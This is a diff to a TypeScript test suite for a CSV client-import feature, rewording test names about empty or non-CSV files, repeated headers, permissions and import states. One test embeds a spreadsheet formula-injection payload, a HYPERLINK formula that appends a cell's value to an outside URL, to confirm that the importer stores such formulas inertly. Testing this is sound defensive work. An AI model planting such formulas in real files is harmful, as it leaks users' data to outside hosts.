@@ -20,7 +20,7 @@ const refused = async (content: string | Uint8Array<ArrayBuffer>) => {
 };
 const bytes = (...values: number[]) => new Uint8Array(values);
 
-describe("files that are none", () => {
+describe("files that aren't CSV", () => {
   it("are refused with a sentence, and leave nothing behind", async () => {
     expect(await refused("")).toBe("422 The file is empty.");
     expect(await refused(bytes(0x50, 0x4b, 3, 4, 20, 0))).toMatch(/^422 This is an Excel workbook/);
@@ -65,7 +65,7 @@ describe("files as programs write them", () => {
     expect(await checked({ kind: "clients", content, cookie })).toMatchObject({ created: 2, bad: 0 });
   });
 
-  it("may have a header twice: the second says which column it is", async () => {
+  it("may repeat a header: the second says which column it is", async () => {
     const content = "Id,Last name,Phone,Phone\n1,Ann,12,416-555-0100\n";
     const { id } = (await upload({ kind: "clients", content, cookie })).body;
     const found = await read(id, cookie);
@@ -73,7 +73,7 @@ describe("files as programs write them", () => {
     expect(found.mapping).toEqual({ key: 0, lastname: 1, phone: 2 });
   });
 
-  it("may hold formulas: they are texts, whole in the database and harmless in our own files", async () => {
+  it("may contain formulas: they're text, complete in the database and harmless in our own files", async () => {
     const formula = '=HYPERLINK("http://example.com/?x="&A1)';
     const content = `Id,Last name,Phone,Source\n"=""0052""",Ann,"=""416-555-0100""","${formula.replaceAll('"', '""')}"\n`;
     await brought({ kind: "clients", content, cookie });
@@ -83,8 +83,8 @@ describe("files as programs write them", () => {
   });
 });
 
-describe("who", () => {
-  it("needs the right to look after access", async () => {
+describe("who may import", () => {
+  it("needs the access right", async () => {
     const { hrid } = await makeEmployee(db, { capabilities: ["production", "pay", "management"] });
     const given = { kind: "clients" as const, content: "Id,Name\n1,a\n" };
     expect((await upload({ ...given, cookie: await staffCookie(hrid) })).status).toBe(403);
@@ -93,7 +93,7 @@ describe("who", () => {
 });
 
 describe("an import in the wrong state", () => {
-  it("is not changed: unfinished columns, an old version, a run before the check, a second life", async () => {
+  it("isn't changed: unfinished columns, an old version, a run before the check, a second run", async () => {
     const { id } = (await upload({ kind: "clients", content: "A,B\nx,y\n", cookie })).body;
     const { version, options } = await read(id, cookie);
     expect((await map(id, cookie, { mapping: {}, options, version })).status).toBe(422);
@@ -111,7 +111,7 @@ describe("an import in the wrong state", () => {
     expect((await run(999_999, 1, cookie)).status).toBe(404);
   });
 
-  it("that is done is not given up", async () => {
+  it("that's done can't be cancelled", async () => {
     const done = await brought({ kind: "clients", content: "Id,Last name\n77,Done\n", cookie });
     expect((await giveUp(done.id, cookie)).status).toBe(409);
   });
